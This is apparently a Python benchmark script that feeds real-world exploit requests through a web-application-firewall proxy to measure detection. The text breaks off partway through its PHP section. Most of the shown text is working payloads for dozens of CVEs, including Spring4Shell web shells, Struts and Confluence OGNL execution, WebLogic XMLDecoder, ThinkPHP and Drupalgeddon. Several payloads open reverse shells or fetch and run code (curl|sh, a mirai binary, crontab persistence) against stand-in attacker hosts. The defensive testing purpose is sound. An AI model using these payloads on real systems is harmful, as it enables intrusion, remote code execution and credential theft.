# ruff: noqa: RUF001  (look-alike characters and full-width quotes are the point of some payloads)
"""Blind end-to-end probe through the real `bastion proxy`: attacks as they arrive in the wild, and API traffic.

Written blind, like bench/eval_blind.py: without looking at the rules, the detectors, docs/detection.md, the
corpora or the request tables of the other probes (only at the harness of bench/eval_proxy.py and the request
builders at the top of bench/eval_variants.py, both reused here), so that its first run is an honest estimate
of what a held-out evaluation would see.

The attack half is what internet-facing APIs actually receive rather than one textbook payload per class:
exploit requests of well-known CVEs as public exploits and scanner templates send them (Spring4Shell,
Spring Cloud Function/Gateway, Confluence and Struts OGNL, Apache 2.4.49/50, Drupalgeddon, ThinkPHP,
vBulletin, Laravel Ignition, F5, Citrix, Fortinet, Ivanti, GitLab, Jenkins, Grafana, WordPress plugins,
Exchange ProxyShell, WebLogic, phpMyAdmin, Elasticsearch, router botnets...), Log4Shell spread across
headers, Shellshock, Text4Shell, sqlmap with its tamper scripts, XSS polyglots, Burp/ZAP active-scan
probes, JWT `alg:none` and `kid` injection, GraphQL introspection and batching abuse, prototype
pollution, SSRF through webhook and URL-preview fields, XXE in uploads and SOAP, CRLF, host header and
verb tampering. The legitimate half is API traffic a careless WAF refuses: webhooks (GitHub, Stripe,
Slack...), CI/CD and Kubernetes documents with shell scripts, SQL saved in database tools, rich text,
e-mails, chat with code, names and addresses, search syntaxes, logs and stack traces, regexes, cron,
paths, URLs, uploads, keys and tokens, OAuth, schemas, feature-flag rules, i18n, maths, spreadsheets.

    .venv/bin/python bench/eval_wild.py [--one-client] [--verbose] [--attacks-first]

Prints the share blocked per class (`benign` is the false-positive share) and, with --verbose, every
attack let through and every legitimate request refused.
"""

from __future__ import annotations

import base64
import io
import json
import random
import tarfile
import zipfile
from typing import Any

from eval_proxy import Req, check, evaluate
from eval_variants import b64, form, get, gql, hdr, js, multipart, nest, q, raw_json, xml

OOB = "c7f3k9.oast.example"  # the attacker's out-of-band collector (DNS/HTTP/LDAP)
EVIL = "203.0.113.66"  # the attacker's download server
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"
FIREFOX = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:126.0) Gecko/20100101 Firefox/126.0"
TEXT = {"Content-Type": "text/plain"}


def with_headers(r: Req, headers: dict[str, str]) -> Req:
    r.headers = r.headers | headers
    return r


def raw(cls: str, method: str, target: str, body: str | bytes = b"", headers: dict[str, str] | None = None) -> Req:
    """A request written exactly as the exploit sends it (target already encoded, body as is)."""
    return Req(cls, method, target, headers or {}, body.encode() if isinstance(body, str) else body)


def form_raw(cls: str, path: str, body: str, headers: dict[str, str] | None = None) -> Req:
    """A form body written by hand: exploits rarely encode it the way a browser does."""
    return raw(cls, "POST", path, body, {"Content-Type": "application/x-www-form-urlencoded"} | (headers or {}))


def b64u(part: dict[str, Any] | bytes) -> str:
    data = part if isinstance(part, bytes) else json.dumps(part, separators=(",", ":")).encode()
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt(header: dict[str, Any], claims: dict[str, Any], sig: bytes | None = None) -> str:
    return f"{b64u(header)}.{b64u(claims)}." + (b64u(sig) if sig is not None else "")


def uescape(s: str) -> str:
    """Every character as a \\uXXXX escape (how OFBiz / Confluence exploits hide their keywords)."""
    return "".join(f"\\u{ord(c):04x}" for c in s)


def tar_with(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def zip_with(files: dict[str, str], stored: bool) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as z:
        for name, text in files.items():
            z.writestr(name, text)
    return buf.getvalue()


# --------------------------------------------------------------------------------------------------
# Attacks: CVE exploits as public exploits and scanner templates send them
# --------------------------------------------------------------------------------------------------

def java_cves() -> list[Req]:
    out: list[Req] = []
    # Spring4Shell (CVE-2022-22965): the class-loader write of a JSP web shell, then the detection probes
    pre = "class.module.classLoader.resources.context.parent.pipeline.first."
    shell = ('%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime()'
             '.exec(request.getParameter("cmd")).getInputStream(); int a = -1; byte[] b = new byte[2048]; '
             'while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i')
    out.append(with_headers(form("expr_inj", "/tomcatwar", {
        pre + "pattern": shell, pre + "suffix": ".jsp", pre + "directory": "webapps/ROOT",
        pre + "prefix": "tomcatwar", pre + "fileDateFormat": ""}), {"suffix": "%>//", "c1": "Runtime", "c2": "<%", "DNT": "1"}))
    out.append(raw("expr_inj", "GET", "/api/v1/greeting?class.module.classLoader.URLs%5B0%5D=0"))
    out.append(raw("expr_inj", "GET", "/?class.module.classLoader.DefaultAssertionStatus=nonsense"))
    out.append(multipart("expr_inj", "/api/profile/update", [
        (pre + "pattern", "%{prefix}i java.io.InputStream in = %{c}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); %{suffix}i", None, None),
        (pre + "directory", "webapps/ROOT", None, None), (pre + "prefix", "shell", None, None), (pre + "suffix", ".jsp", None, None)]))
    # Spring Cloud Function SpEL routing header (CVE-2022-22963)
    out.append(raw("expr_inj", "POST", "/functionRouter", "test", TEXT | {
        "spring.cloud.function.routing-expression": f'T(java.lang.Runtime).getRuntime().exec("curl http://{OOB}/scf")'}))
    out.append(raw("expr_inj", "POST", "/functionRouter", "x", TEXT | {
        "spring.cloud.function.routing-expression":
            'T(java.lang.Runtime).getRuntime().exec(new String[]{"/bin/sh","-c","bash -i >& /dev/tcp/' + EVIL + '/4444 0>&1"})'}))
    # Spring Cloud Gateway actuator route injection (CVE-2022-22947)
    out.append(js("expr_inj", "/actuator/gateway/routes/hacktest", {
        "id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value":
            '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime()'
            '.exec(new String[]{"id"}).getInputStream()))}'}}], "uri": "http://example.com"}))
    # Spring Boot actuator /env: H2 hikari test query and Eureka XStream
    out.append(js("rce", "/actuator/env", {"name": "spring.datasource.hikari.connection-test-query", "value":
        "CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new "
        "java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream()); return s.hasNext() ? s.next() : \"\"; }'; "
        f"CALL EXEC('curl http://{OOB}/h2');"}))
    out.append(js("ssrf", "/actuator/env", {"name": "eureka.client.serviceUrl.defaultZone", "value": f"http://{OOB}/xstream"}))
    # Confluence OGNL in the path (CVE-2022-26134), nuclei and public exploit forms
    ognl1 = ('${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8"))'
             '.(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}')
    out.append(raw("expr_inj", "GET", "/" + q(ognl1) + "/"))
    ognl2 = ('${Class.forName("com.opensymphony.webwork.ServletActionContext").getMethod("getResponse",null).invoke(null,null)'
             '.setHeader("X-Confluence",Class.forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("nashorn")'
             '.eval("new java.lang.ProcessBuilder(\\"bash\\",\\"-c\\",\\"curl ' + OOB + '\\").start()"))}')
    out.append(raw("expr_inj", "GET", "/" + q(ognl2) + "/"))
    out.append(raw("expr_inj", "GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22nslookup%20" + OOB + "%22%29%7D/"))
    # Confluence CVE-2021-26084 (createpage-entervariables) and CVE-2023-22527 (text-inline.vm)
    out.append(raw("expr_inj", "GET", "/pages/createpage-entervariables.action?SpaceKey=x&queryString="
                   "aaaaaaaa%5Cu0027%2B%7B233*233%7D%2B%5Cu0027bbbbbbb"))
    out.append(form_raw("expr_inj", "/pages/doenterpagevariables.action",
                        "queryString=aaaaaaaa\\u0027%2b{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance()"
                        ".getEngineByName(\\u0027JavaScript\\u0027).\\u0065val(\\u0027var+p+%3d+new+java.lang.ProcessBuilder()%3b+"
                        "p.command(\\u0022bash\\u0022,+\\u0022-c\\u0022,+\\u0022id\\u0022)%3b+p.start()\\u0027)}%2b\\u0027"))
    out.append(form_raw("expr_inj", "/template/aui/text-inline.vm",
                        "label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027)"
                        ".findValue(#parameters.x,{})%2b\\u0027&x=@org.apache.struts2.ServletActionContext@getResponse()"
                        ".setHeader('X-Cmd-Response',(new+freemarker.template.utility.Execute()).exec({\"id\"}))"))
    # Struts2: S2-045 Content-Type, S2-057 namespace, S2-016 redirect:, S2-061 forced OGNL, S2-046 file name
    s2045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
             "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance("
             "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil."
             "getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java.lang.System@getProperty("
             "'os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new "
             "java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2."
             "ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),"
             "#ros)).(#ros.flush())}")
    out.append(raw("expr_inj", "GET", "/struts2-showcase/index.action", headers={"Content-Type": s2045}))
    out.append(raw("expr_inj", "POST", "/upload.action", "x", {"Content-Type": "%{#context['com.opensymphony.xwork2.dispatcher."
                   "HttpServletResponse'].addHeader('X-Test',233*233)}.multipart/form-data"}))
    s2057 = ("${(#_memberAccess[\"allowStaticMethodAccess\"]=true,#a=@java.lang.Runtime@getRuntime().exec('id').getInputStream(),"
             "#b=new java.io.InputStreamReader(#a),#c=new java.io.BufferedReader(#b),#d=new char[51020],#c.read(#d),"
             "#sbtest=@org.apache.struts2.ServletActionContext@getResponse().getWriter(),#sbtest.println(#d),#sbtest.close())}")
    out.append(raw("expr_inj", "GET", "/struts2-showcase/" + q(s2057) + "/actionChain1.action"))
    out.append(raw("expr_inj", "GET", "/struts2-showcase/%24%7B%28111%2B111%29%7D/actionChain1.action"))
    out.append(raw("expr_inj", "GET", "/index.action?redirect:" + q(
        "${#context['xwork.MethodAccessor.denyMethodExecution']=false,#f=#_memberAccess.getClass().getDeclaredField("
        "'allowStaticMethodAccess'),#f.setAccessible(true),#f.set(#_memberAccess,true),@org.apache.commons.io.IOUtils@toString("
        "@java.lang.Runtime@getRuntime().exec('id').getInputStream())}")))
    s2061 = ("%{(#instancemanager=#application[\"org.apache.tomcat.InstanceManager\"]).(#stack=#attr[\"com.opensymphony.xwork2.util."
             "ValueStack.ValueStack\"]).(#bean=#instancemanager.newInstance(\"org.apache.commons.collections.BeanMap\")).(#bean.setBean("
             "#stack)).(#context=#bean.get(\"context\")).(#bean.setBean(#context)).(#macc=#bean.get(\"memberAccess\")).(#bean.setBean("
             "#macc)).(#emptyset=#instancemanager.newInstance(\"java.util.HashSet\")).(#bean.put(\"excludedClasses\",#emptyset)).("
             "#bean.put(\"excludedPackageNames\",#emptyset)).(#arglist=#instancemanager.newInstance(\"java.util.ArrayList\")).("
             "#arglist.add(\"id\")).(#execute=#instancemanager.newInstance(\"freemarker.template.utility.Execute\")).(#execute.exec(#arglist))}")
    out.append(multipart("expr_inj", "/index.action", [("id", s2061, None, None)]))
    out.append(multipart("expr_inj", "/doUpload.action", [
        ("upload", "x", "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)."
         "(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#p.start())}\x00b", "text/plain")]))
    # WebLogic: console handle (CVE-2020-14882/14883) and XMLDecoder (CVE-2017-10271, CVE-2019-2725)
    out.append(raw("expr_inj", "GET", "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle="
                   "com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)"))
    out.append(form_raw("expr_inj", "/console/images/%252E%252E%252Fconsole.portal",
                        f"_nfpb=true&_pageLabel=HomePage1&handle=com.tangosol.coherence.config.xml.XmlConfigurableProvider(%22http://{OOB}/x.xml%22)"))
    decoder = ('<java version="1.4.0" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" '
               'length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2">'
               f'<string>curl http://{OOB}/wls | sh</string></void></array><void method="start"/></void></java>')
    out.append(xml("deserialization", "/wls-wsat/CoordinatorPortType",
                   '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext '
                   f'xmlns:work="http://bea.com/2004/06/soap/workarea/">{decoder}</work:WorkContext></soapenv:Header><soapenv:Body/>'
                   '</soapenv:Envelope>', "text/xml"))
    out.append(xml("deserialization", "/_async/AsyncResponseService",
                   '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa="http://www.w3.org/2005/08/addressing" '
                   'xmlns:asy="http://www.bea.com/async/AsyncResponseService"><soapenv:Header><wsa:Action>xx</wsa:Action><wsa:RelatesTo>xx'
                   '</wsa:RelatesTo><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><void class="java.lang.ProcessBuilder">'
                   '<array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c'
                   f'</string></void><void index="2"><string>wget http://{EVIL}/x -O /tmp/x</string></void></array><void method="start"/>'
                   '</void></work:WorkContext></soapenv:Header><soapenv:Body><asy:onAsyncDelivery/></soapenv:Body></soapenv:Envelope>', "text/xml"))
    # Jira: template injection in ContactAdministrators (CVE-2019-11581)
    out.append(form("ssti", "/secure/ContactAdministrators!default.jspa", {
        "from": "admin@example.com", "details": "x", "atl_token": "B4JQ-AAAA-1111-2222|lin",
        "subject": f"$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('curl http://{OOB}/jira').waitFor()"}))
    # Apache OFBiz groovy (CVE-2023-51467 / CVE-2024-38856, the second with unicode-escaped keywords)
    out.append(form("rce", "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y",
                    {"groovyProgram": "throw new Exception('id'.execute().text);"}))
    out.append(form("rce", "/webtools/control/main/ProgramExport", {"groovyProgram": uescape(f"'curl http://{OOB}/ofbiz'.execute();")}))
    # Apache Solr Velocity template (CVE-2019-17558)
    out.append(raw("ssti", "GET", "/solr/core0/select?q=1&&wt=velocity&v.template=custom&v.template.custom=" + q(
        "#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($chr=$x.class.forName('java.lang.Character')) "
        "#set($str=$x.class.forName('java.lang.String')) #set($ex=$rt.getRuntime().exec('id')) $ex.waitFor() "
        "#set($out=$ex.getInputStream()) #foreach( $i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end")))
    # VMware Workspace ONE freemarker (CVE-2022-22954), every byte hex-encoded as the template does
    fm = '${"freemarker.template.utility.Execute"?new()("cat /etc/hosts")}'
    out.append(raw("ssti", "GET", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=" + "".join(f"%{b:02x}" for b in fm.encode())))
    # Ivanti EPMM EL injection (CVE-2025-4427/4428)
    out.append(get("expr_inj", "/api/v2/featureusage", {"format": "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime')"
                                                        ".invoke(''.getClass().forName('java.lang.Runtime')).exec('id')}"}))
    # Text4Shell (CVE-2022-42889) where apps interpolate user text
    out.append(get("expr_inj", "/api/v1/render", {"template": "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/pwned')}"}))
    out.append(js("expr_inj", "/api/v1/notifications/preview", {"subject": "Hello ${script:js:new java.lang.ProcessBuilder('curl','"
                                                                + OOB + "').start()}", "to": "ops@example.com"}))
    out.append(get("expr_inj", "/api/v1/search", {"q": f"${{url:UTF-8:http://{OOB}/t4s}}"}))
    out.append(form("expr_inj", "/api/v1/feedback", {"message": f"${{dns:address|{OOB}}}", "rating": "5"}))
    # Elasticsearch script_fields (CVE-2014-3120 MVEL, CVE-2015-1427 Groovy sandbox escape)
    out.append(js("rce", "/_search?pretty", {"size": 1, "query": {"filtered": {"query": {"match_all": {}}}}, "script_fields": {"command": {
        "script": "import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next();"}}}))
    out.append(js("rce", "/website/_search", {"size": 1, "script_fields": {"lupin": {"lang": "groovy", "script":
        "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"cat /etc/passwd\").getText()"}}}))
    # Apache Druid JavaScript (CVE-2021-25646)
    out.append(js("rce", "/druid/indexer/v1/sampler", {"type": "index", "spec": {"ioConfig": {"type": "index", "firehose": {
        "type": "local", "baseDir": "/etc", "filter": "passwd"}}, "dataSchema": {"dataSource": "test", "parser": {"parseSpec": {
            "format": "javascript", "timestampSpec": {}, "dimensionsSpec": {},
            "function": "function(){var a = new java.util.Scanner(java.lang.Runtime.getRuntime().exec([\"sh\",\"-c\",\"id\"])"
                        ".getInputStream()).useDelimiter(\"\\\\A\").next();return {timestamp:123123,test: a}}", "": {"enabled": "true"}}}}},
        "samplerConfig": {"numRows": 10}}))
    # Jenkins script console, checkScript (CVE-2019-1003000) and the CLI file read (CVE-2024-23897)
    out.append(form("rce", "/script", {"script": 'println "cat /etc/passwd".execute().text', "Jenkins-Crumb": "4f1c0a8d2b", "Submit": "Run"}))
    out.append(form("rce", "/scriptText", {"script": f'def p = ["bash", "-c", "curl -s http://{EVIL}/j.sh | bash"].execute(); p.waitFor(); println p.text'}))
    out.append(get("rce", "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript",
                   {"sandbox": "true", "value": f"public class x {{ public x(){{ \"curl http://{OOB}/jk\".execute() }} }}"}))
    cli = (b"\x00\x00\x00\x0e\x00\x00\x0cconnect-node\x00\x00\x00\x0e\x00\x00\x0c@/etc/passwd\x00\x00\x00\x07\x02\x00\x05UTF-8"
           b"\x00\x00\x00\x07\x01\x00\x05en_US\x00\x00\x00\x00\x03")
    out.append(raw("traversal", "POST", "/cli?remoting=false", cli, {"Content-Type": "application/octet-stream",
                                                                     "Session": "6f1c4a02-3b7e-4a55-9d1e-0d7c2f1b8a41", "Side": "upload"}))
    # Kibana Timelion prototype pollution to RCE (CVE-2019-7609)
    out.append(js("rce", "/api/timelion/run", {"sheet": [
        ".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i >& /dev/tcp/" + EVIL
        + "/6666 0>&1\\'\");process.exit()//').props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')"],
        "time": {"from": "now-15m", "to": "now", "mode": "quick", "interval": "10s", "timezone": "UTC"}}, headers={"kbn-version": "6.6.0"}))
    # Hadoop YARN unauthenticated application submit, Docker API host mount
    out.append(js("rce", "/ws/v1/cluster/apps", {"application-id": "application_1715000000000_0001", "application-name": "get-shell",
                                                 "am-container-spec": {"commands": {"command": f"curl -fsSL http://{EVIL}/ldr.sh | bash"}},
                                                 "application-type": "YARN"}))
    out.append(js("rce", "/containers/create", {"Image": "alpine", "Cmd": ["/bin/sh", "-c", "chroot /mnt sh -c 'echo \"* * * * * root curl "
                                                "http://" + EVIL + "/c.sh|sh\" >> /etc/crontab'"], "HostConfig": {"Binds": ["/:/mnt"], "Privileged": True}}))
    # Apache APISIX default admin key with a Lua script route
    out.append(js("rce", "/apisix/admin/routes", {"uri": "/x", "script": "local _M = {} \n function _M.access(conf, ctx) \n local os = require('os')"
                                                  " \n os.execute('id > /tmp/apisix') \n end \nreturn _M", "upstream": {"type": "roundrobin",
                                                                                                                       "nodes": {"example.com:80": 1}}},
                  headers={"X-API-KEY": "edd1c9f034335f136f87ad84b625c8f1"}))
    return out


def traversal_cves() -> list[Req]:
    out: list[Req] = []
    # Apache 2.4.49 / 2.4.50 (CVE-2021-41773, CVE-2021-42013)
    out.append(raw("traversal", "GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"))
    out.append(raw("traversal", "GET", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"))
    out.append(raw("rce", "POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh", "echo Content-Type: text/plain; echo; id", TEXT))
    out.append(raw("traversal", "GET", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"))
    out.append(raw("rce", "POST", "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/.%%32%65/bin/sh",
                   f"echo;curl -s http://{EVIL}/k.sh|sh", {"Content-Type": "application/x-www-form-urlencoded"}))
    # Grafana plugin assets (CVE-2021-43798)
    out.append(raw("traversal", "GET", "/public/plugins/alertlist/../../../../../../../../../../../../../etc/passwd"))
    out.append(raw("traversal", "GET", "/public/plugins/welcome/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fgrafana%2fgrafana.ini"))
    out.append(raw("traversal", "GET", "/public/plugins/text/../../../../../../../../var/lib/grafana/grafana.db"))
    # Citrix ADC (CVE-2019-19781): config read, then the template write, then Citrix Bleed's oversized Host (CVE-2023-4966)
    out.append(raw("traversal", "GET", "/vpn/../vpns/cfg/smb.conf"))
    out.append(with_headers(form_raw("rce", "/vpn/../vpns/portal/scripts/newbm.pl",
                                     "url=http://example.com&title=%5B%25%20template.new(%7B'BLOCK'%3D'print%20readpipe(%22id%22)'%7D)%20%25%5D"
                                     "&desc=desc&UI_inuse=RfWeb"), {"NSC_USER": "../../../netscaler/portal/templates/x1y2z3", "NSC_NONCE": "nsroot"}))
    out.append(raw("traversal", "GET", "/oauth/idp/.well-known/openid-configuration", headers={"Host": "a" * 24812}))
    # Fortinet: FortiOS SSL-VPN session file (CVE-2018-13379), FortiOS auth bypass (CVE-2022-40684), FortiWeb (CVE-2025-64446)
    out.append(raw("traversal", "GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"))
    out.append(js("access_bypass", "/api/v2/cmdb/system/admin/admin", {"ssh-public-key1": '"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 attacker@kali"'},
                  method="PUT", headers={"User-Agent": "Report Runner", "Forwarded": 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";'}))
    out.append(js("traversal", "/api/v2.0/cmdb/system/admin%3F/../../../../../cgi-bin/fwbcgi", {"data": {"name": "x7admin", "access-profile":
                                                                                                        "prof_admin", "password": "P@ssw0rd1!"}}))
    # Ivanti Connect Secure (CVE-2023-46805 + CVE-2024-21887)
    out.append(raw("traversal", "GET", "/api/v1/totp/user-backup-code/../../system/system-information"))
    out.append(raw("rce", "GET", "/api/v1/totp/user-backup-code/../../license/keys-status/" + q(
        f";python -c 'import socket,subprocess;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{EVIL}\",4444));"
        "subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())';")))
    # F5 BIG-IP: iControl REST auth bypass (CVE-2022-1388), TMUI (CVE-2020-5902)
    out.append(js("rce", "/mgmt/tm/util/bash", {"command": "run", "utilCmdArgs": "-c 'cat /etc/passwd'"}, headers={
        "Connection": "keep-alive, X-F5-Auth-Token", "X-F5-Auth-Token": "a", "Authorization": "Basic YWRtaW46"}))
    out.append(raw("traversal", "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"))
    out.append(raw("rce", "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin"))
    # GitLab: upload traversal (CVE-2023-2825)
    out.append(raw("traversal", "GET", "/group1/group2/group3/group4/group5/project/uploads/4e02c376ac758e162ec674399741e38d/"
                   + "..%2F" * 10 + "etc%2Fpasswd"))
    # Pulse Secure (CVE-2019-11510), Cisco ASA (CVE-2020-3452), Apache Flink (CVE-2020-17519)
    out.append(raw("traversal", "GET", "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/"))
    out.append(raw("traversal", "GET", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../"))
    out.append(raw("traversal", "GET", "/jobmanager/logs/" + "..%252f" * 12 + "etc%252fpasswd"))
    # phpMyAdmin include (CVE-2018-12613)
    out.append(raw("traversal", "GET", "/phpmyadmin/index.php?target=db_sql.php%253f/../../../../../../../../etc/passwd"))
    # WordPress plugins: Revolution Slider and Duplicator downloads
    out.append(raw("traversal", "GET", "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"))
    out.append(raw("traversal", "GET", "/wp-admin/admin-ajax.php?action=duplicator_download&file=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd"))
    # Tomcat path parameters, nginx alias off-by-slash
    out.append(raw("traversal", "GET", "/api/..;/..;/manager/html"))
    out.append(raw("traversal", "GET", "/static../app/settings.py"))
    out.append(raw("traversal", "GET", "/assets/..%5c..%5c..%5cwindows%5cwin.ini"))
    # VMware vCenter OVA upload with a path in the tar (CVE-2021-21972)
    out.append(multipart("traversal", "/ui/vropspluginui/rest/services/uploadova", [
        ("uploadFile", tar_with("../../../../../home/vsphere-ui/vcli/1.jsp", b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
         "upload.tar", "application/x-tar")]))
    return out


def php_cves() -> list[Req]:
    out: list[Req] = []
    # Drupalgeddon2 (CVE-2018-7600), Drupal 8 and Drupal 7 forms; Drupalgeddon (CVE-2014-3704) SQL in a key
    out.append(form("rce", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", {
        "form_id": "user_register_form", "_drupal_ajax": "1", "mail[#post_render][]": "exec", "mail[#type]": "markup",
        "mail[#markup]": f"wget http://{EVIL}/d.sh -O- | sh"}))
    out.append(form("rce", "/?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23type%5D=markup&name%5B%23markup%5D=id",
                    {"form_id": "user_pass", "_triggering_element_name": "name", "_triggering_element_value": "", "opz": "E-mail new Password"}))
    out.append(form_raw("sqli", "/?q=node&destination=node",
                        "pass=lol&form_build_id=&form_id=user_login_block&op=Log+in&name[0%20or%20updatexml(0,concat(0xa,user()),0)%23]=bob&name[0]=a"))
    out.append(js("deserialization", "/node?_format=hal_json", {"link": [{"value": "link", "options":
        'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\u0000GuzzleHttp\\Psr7\\FnStream\u0000methods";a:1:{s:5:"close";a:2:{i:0;'
        'O:23:"GuzzleHttp\\HandlerStack":3:{s:32:"\u0000GuzzleHttp\\HandlerStack\u0000handler";s:2:"id";s:30:"\u0000GuzzleHttp\\'
        'HandlerStack\u0000stack";a:1:{i:0;a:1:{i:0;s:6:"system";}}s:31:"\u0000GuzzleHttp\\HandlerStack\u0000cached";b:0;}i:1;s:7:'
        '"resolve";}}s:9:"_fn_close";a:2:{i:0;r:4;i:1;s:7:"resolve";}}'}],
        "_links": {"type": {"href": "http://shop.example/rest/type/shortcut/default"}}},
        headers={"Content-Type": "application/hal+json"}))
    # ThinkPHP 5.x: invokefunction as botnets send it (raw backslashes) and as scanners encode it
    out.append(raw("rce", "GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"
                   f"&vars[1][]=cd%20/tmp;wget%20http://{EVIL}/bins/mirai.x86;chmod%20777%20mirai.x86;./mirai.x86%20thinkphp"))
    out.append(raw("rce", "GET", "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=md5&vars%5B1%5D%5B%5D=HelloThinkPHP21"))
    out.append(raw("rce", "GET", "/index.php?s=index/think%5Crequest/input&filter=phpinfo&data=1"))
    out.append(form("rce", "/index.php?s=captcha", {"_method": "__construct", "filter[]": "system", "method": "get", "server[REQUEST_METHOD]": "id"}))
    out.append(raw("rce", "GET", "/index.php?+config-create+/&lang=../../../../../../../../usr/local/lib/php/pearcmd&/<?=phpinfo()?>+/tmp/hello.php"))
    # vBulletin widget_php (CVE-2019-16759) and its bypass (CVE-2020-17496)
    out.append(form("rce", "/index.php?routestring=ajax/render/widget_php", {"widgetConfig[code]": "echo shell_exec('id'); exit;"}))
    out.append(form("rce", "/ajax/render/widget_tabbedcontainer_tab_panel", {"subWidgets[0][template]": "widget_php",
                                                                             "subWidgets[0][config][code]": "phpinfo();"}))
    # Laravel Ignition (CVE-2021-3129): the filter-chain log clearing and the phar trigger
    out.append(js("rce", "/_ignition/execute-solution", {"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                                                         "parameters": {"variableName": "username", "viewFile":
